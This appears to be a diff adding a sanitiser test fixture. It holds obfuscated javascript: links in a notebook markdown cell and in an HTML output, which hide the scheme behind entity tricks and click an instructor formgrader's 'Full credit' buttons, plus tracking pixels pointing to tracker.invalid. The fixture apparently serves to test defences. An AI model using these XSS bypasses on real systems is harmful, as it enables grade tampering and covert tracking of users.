@@ -1,0 +1,8 @@
+# attack: links whose javascript: scheme hides behind character references the browser decodes and a sanitiser may not (&colon;, &#58 without its semicolon, &Tab; and &#x09; inside the name, a hex first letter, mixed case after a leading space and tab), in a markdown cell and in an HTML output, and a remote image: one click in the instructor's formgrader runs script in its Jupyter origin (its own Full credit buttons set the grades through its API), and the image tells a tracker when and from where the page was opened
+# defended-by: files
+# markdown: DTLABS-LINKS <a href="javascript&colon;window.DTLABS_PWNED='link-1';jQuery('.full-credit').click()">DTLABS-LINK-1</a> <a href="java&Tab;script:window.DTLABS_PWNED='link-2';jQuery('.full-credit').click()">DTLABS-LINK-2</a> <a href="javascript&#58window.DTLABS_PWNED='link-3';jQuery('.full-credit').click()">DTLABS-LINK-3</a> <a href="&#x6A;avascript:window.DTLABS_PWNED='link-4';jQuery('.full-credit').click()">DTLABS-LINK-4</a> <a href="jav&#x09;ascript:window.DTLABS_PWNED='link-5';jQuery('.full-credit').click()">DTLABS-LINK-5</a> <a href="&#32;&#9;JaVa&Tab;ScRiPt&#x3a;window.DTLABS_PWNED='link-6';jQuery('.full-credit').click()">DTLABS-LINK-6</a> <img src="http://tracker.invalid/pixel.png" alt="DTLABS-PIXEL">
+from IPython.display import HTML as _HTML, display as _display
+
+_display(_HTML('<a href="javascript&colon;window.DTLABS_PWNED=\'out-1\'">DTLABS-OUT-1</a> '
+               '<a href="javascript&#58window.DTLABS_PWNED=\'out-2\'">DTLABS-OUT-2</a> '
+               '<img src="http://tracker.invalid/out.png" alt="DTLABS-OUT-PIXEL">'))
